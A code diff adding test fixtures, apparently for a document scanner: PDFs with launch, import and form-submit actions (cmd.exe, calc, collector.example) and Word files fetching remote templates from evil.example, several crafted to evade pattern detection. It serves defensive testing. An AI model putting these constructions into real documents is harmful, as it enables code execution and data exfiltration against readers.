@@ -82,3 +82,45 @@ export function doc(extra: string[] = [], { word = true } = {}): Buffer {
   for (const name of extra) CFB.utils.cfb_add(container, name, Buffer.alloc(600, 3));
   return Buffer.from(CFB.write(container, { type: 'buffer' }) as Uint8Array);
 }
+
+/**
+ * PDFs whose actions launch, import or submit something, each placed where a viewer runs it without a script:
+ * the catalogue's /OpenAction and /AA, a page's /AA, an outline item, a form field, the end of a /Next chain.
+ */
+export const ACTIVE_PDFS: [string, Buffer][] = [
+  ['the catalogue’s /OpenAction launching a program', pdf({ catalog: '/OpenAction 4 0 R', extra: ['<< /S /Launch /F (cmd.exe) >>'] })],
+  ['a launch spelled with a name escape (/L#61unch)', pdf({ catalog: '/OpenAction << /S /L#61unch /Win << /F (cmd.exe) /P (/c calc) >> >>' })],
+  ['the catalogue’s /AA importing form data', pdf({ catalog: '/AA << /WC << /S /ImportData /F (data.fdf) >> >>' })],
+  ['a page’s /AA submitting the form', pdf({ page: '/AA << /O << /S /SubmitForm /F << /FS /URL /F (https://collector.example/) >> >> >>' })],
+  ['an outline item opening another file (/GoToR)', pdf({ catalog: '/Outlines 4 0 R', extra: ['<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>', '<< /Title (Open) /Parent 4 0 R /A << /S /GoToR /F (//server/share/x.pdf) /D [0 /Fit] >> >>'] })],
+  ['an outline item to a file: address', pdf({ catalog: '/Outlines 4 0 R', extra: ['<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>', '<< /Title (Open) /Parent 4 0 R /A << /S /URI /URI (file:///C:/Windows/System32/calc.exe) >> >>'] })],
+  ['a link to a javascript: address', pdf({ page: '/Annots [4 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (javascript:app.alert\\(1\\)) >> >>'] })],
+  ['a launch at the end of a /Next chain', pdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (cmd.exe) >> >>' })],
+  ['a form field submitting', pdf({ catalog: '/AcroForm << /Fields [4 0 R] >>', extra: ['<< /FT /Btn /T (send) /Subtype /Widget /Rect [0 0 10 10] /A << /S /SubmitForm /F (https://collector.example/) >> >>'] })],
+  ['an embedded go-to (/GoToE)', pdf({ catalog: '/OpenAction << /S /GoToE /T << /R /C /N (payload) >> >>' })],
+];
+
+/** PDFs with actions that stay inside the document or go to the web: taken. */
+export const PASSIVE_PDFS: [string, Buffer][] = [
+  ['a go-to inside the document on open', pdf({ catalog: '/OpenAction [3 0 R /Fit]' })],
+  ['an outline item to a web page', pdf({ catalog: '/Outlines 4 0 R', extra: ['<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>', '<< /Title (Site) /Parent 4 0 R /A << /S /URI /URI (https://www.example.com/) >> >>'] })],
+  ['a go-to another document on the web', pdf({ catalog: '/OpenAction << /S /GoToR /F << /FS /URL /F (https://www.example.com/a.pdf) >> /D [0 /Fit] >>' })],
+];
+
+const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const RELS_NS = 'http://schemas.openxmlformats.org/package/2006/relationships';
+const rels = (body: string) => `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${RELS_NS}">${body}</Relationships>`;
+
+/** Word documents that fetch something from outside the file when opened, each written so a pattern would miss it. */
+export const REMOTE_DOCX: [string, Buffer, 'active-content' | 'unreadable'][] = [
+  ['a template relation in single quotes', docx({ 'word/_rels/settings.xml.rels': rels(`<Relationship Id='rId9' Type='${REL}/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/>`) }), 'active-content'],
+  ['spaces around the equals signs', docx({ 'word/_rels/settings.xml.rels': rels(`<Relationship Id="rId9" Type = "${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode = "External" />`) }), 'active-content'],
+  ['External written as a character reference', docx({ 'word/_rels/settings.xml.rels': rels(`<Relationship Id="rId9" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"/>`) }), 'active-content'],
+  ['the relations under a namespace prefix', docx({ 'word/_rels/settings.xml.rels': `<?xml version="1.0"?><r:Relationships xmlns:r="${RELS_NS}"><r:Relationship Id="rId9" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></r:Relationships>` }), 'active-content'],
+  ['the relations in UTF-16', docx({ 'word/_rels/settings.xml.rels': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(rels(`<Relationship Id="rId9" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`).replace('UTF-8', 'UTF-16'), 'utf16le')]) }), 'active-content'],
+  ['a picture linked from outside', docx({ 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId5" Type="${REL}/image" Target="https://tracker.example/p.png" TargetMode="External"/>`) }), 'active-content'],
+  ['a frame of another page', docx({ 'word/_rels/webSettings.xml.rels': rels(`<Relationship Id="rId1" Type="${REL}/frame" Target="https://evil.example/" TargetMode="External"/>`) }), 'active-content'],
+  ['a macro-enabled content type written with a character reference', docx({ '[Content_Types].xml': docxTypes('<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>') }), 'active-content'],
+  ['relations with a DOCTYPE', docx({ 'word/_rels/settings.xml.rels': `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e "External">]><Relationships xmlns="${RELS_NS}"><Relationship Id="rId9" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&e;"/></Relationships>` }), 'unreadable'],
+  ['relations that are not well-formed XML', docx({ 'word/_rels/settings.xml.rels': rels(`<Relationship Id="rId9" Type="${REL}/attachedTemplate" TargetMode=External Target="https://evil.example/t.dotm"/>`) }), 'unreadable'],
+];
